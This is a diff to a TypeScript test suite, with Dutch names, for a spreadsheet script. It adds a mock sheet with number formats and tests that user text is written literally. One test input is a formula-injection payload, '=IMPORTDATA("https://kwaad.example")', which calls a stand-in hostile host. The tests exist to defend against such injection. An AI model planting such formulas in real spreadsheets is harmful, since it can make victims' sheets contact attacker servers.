@@ -14,27 +14,52 @@ const TOKEN_URL = 'https://tokens.example.nl/token';
 
 type Cel = unknown;
 
+/** What a sheet makes of a value, as if it were typed: a text only stays itself in a cell that is text. */
+const asTyped = (value: Cel, format: string): Cel => {
+  if (typeof value !== 'string') return value;
+  if (value.startsWith('=')) throw new Error('a formula');
+  // A leading apostrophe marks text, and is not part of it.
+  if (value.startsWith("'")) return value.slice(1);
+  if (format === '@') return value;
+  if (/^[+\-@]/.test(value)) throw new Error('a formula');
+  if (/^\d+$/.test(value)) return Number(value);
+  return /^\d{4}-\d{2}(-\d{2})?$/.test(value) ? new Date(value) : value;
+};
+
 /** A sheet: what was set, as it is read back. */
 const maakBlad = () => {
   const cellen: Cel[][] = [];
+  const formats: string[][] = [];
   return {
     cellen,
     getDataRange: () => ({ getValues: () => cellen.map((rij) => [...rij]) }),
-    getRange: (rij: number, kolom: number, aantalRijen: number, aantalKolommen: number) => ({
-      setValues: (waarden: Cel[][]) => {
-        expect([waarden.length, waarden[0]?.length]).toEqual([aantalRijen, aantalKolommen]);
-        waarden.forEach((nieuw, plaats) => {
-          const doel = cellen[rij - 1 + plaats] ?? [];
-          cellen[rij - 1 + plaats] = doel;
-          nieuw.forEach((waarde, naast) => {
-            // A leading apostrophe marks text, and is not part of it.
-            doel[kolom - 1 + naast] =
-              typeof waarde === 'string' && waarde.startsWith("'") ? waarde.slice(1) : waarde;
-            if (typeof waarde === 'string' && /^[=+\-@]/.test(waarde)) throw new Error('a formula');
+    getRange: (rij: number, kolom: number, aantalRijen: number, aantalKolommen: number) => {
+      const put = <T>(target: T[][], values: T[][]): void => {
+        expect([values.length, values[0]?.length]).toEqual([aantalRijen, aantalKolommen]);
+        values.forEach((row, down) => {
+          const doel = target[rij - 1 + down] ?? [];
+          target[rij - 1 + down] = doel;
+          row.forEach((value, right) => {
+            doel[kolom - 1 + right] = value;
           });
         });
-      },
-    }),
+      };
+      const range = {
+        setNumberFormats: (given: string[][]) => {
+          put(formats, given);
+          return range;
+        },
+        setValues: (given: Cel[][]) => {
+          const format = (down: number, right: number) => formats[rij - 1 + down]?.[kolom - 1 + right] ?? '';
+          put(
+            cellen,
+            given.map((row, down) => row.map((value, right) => asTyped(value, format(down, right)))),
+          );
+          return range;
+        },
+      };
+      return range;
+    },
   };
 };
 
@@ -176,22 +201,46 @@ describe('the script of the spreadsheet', () => {
     ]);
   });
 
-  test('never writes a formula that somebody put in a text', () => {
-    liggen = [bericht('gemeld', 1, { contact: '=IMPORTDATA("https://kwaad.example")' })];
+  test.each([
+    '=IMPORTDATA("https://kwaad.example")',
+    '+31612345678',
+    '-',
+    '@jansen',
+    '0612345678',
+    '1990-05',
+    '1990-05-17',
+  ])('writes the text %s as it is', (tekst) => {
+    liggen = [bericht('gemeld', 1, { contact: tekst })];
     haalOp();
-    expect(mensen()[0]?.['contact']).toBe('=IMPORTDATA("https://kwaad.example")');
+    expect(mensen()[0]?.['contact']).toBe(tekst);
   });
 
-  test('does not confirm what it could not write', () => {
-    liggen = [bericht('gemeld', 1)];
+  test('writes a number as a number, to count and sort with', () => {
+    liggen = [bericht('gemeld', 1, { aantalGezinsleden: 4 })];
+    haalOp();
+    expect(mensen()[0]).toMatchObject({ volgnummer: 1, aantalGezinsleden: 4 });
+  });
+
+  test('does not confirm what it could not write, and does the other zaken', () => {
+    const ander = { ...bericht('gemeld', 1, { zaakId: 'andere-zaak' }), id: 'ander', subject: 'andere-zaak' };
+    liggen = [bericht('gemeld', 1), bericht('gewijzigd', 2), ander];
+    const blad = maakBlad();
+    let reads = 0;
     bladen.set('Mensen', {
-      ...maakBlad(),
+      ...blad,
       getDataRange: () => {
-        throw new Error('het blad is weg');
+        reads += 1;
+        if (reads === 1) throw new Error('het blad is weg');
+        return blad.getDataRange();
       },
     });
+    blad.getRange(1, 1, 1, 4).setValues([['zaakId', 'volgnummer', 'stand', 'bijgewerkt']]);
     expect(haalOp).toThrow('het blad is weg');
-    expect(gebeld.filter((regel) => regel.endsWith('_bevestig'))).toEqual([]);
+    expect(liggen.map((gebleven) => gebleven['id'])).toEqual(['gemeld-1', 'gewijzigd-2']);
+    expect(mensen()).toMatchObject([{ zaakId: 'andere-zaak' }]);
+    haalOp();
+    expect(liggen).toEqual([]);
+    expect(mensen()).toHaveLength(2);
   });
 
   test('does nothing while it runs already', () => {
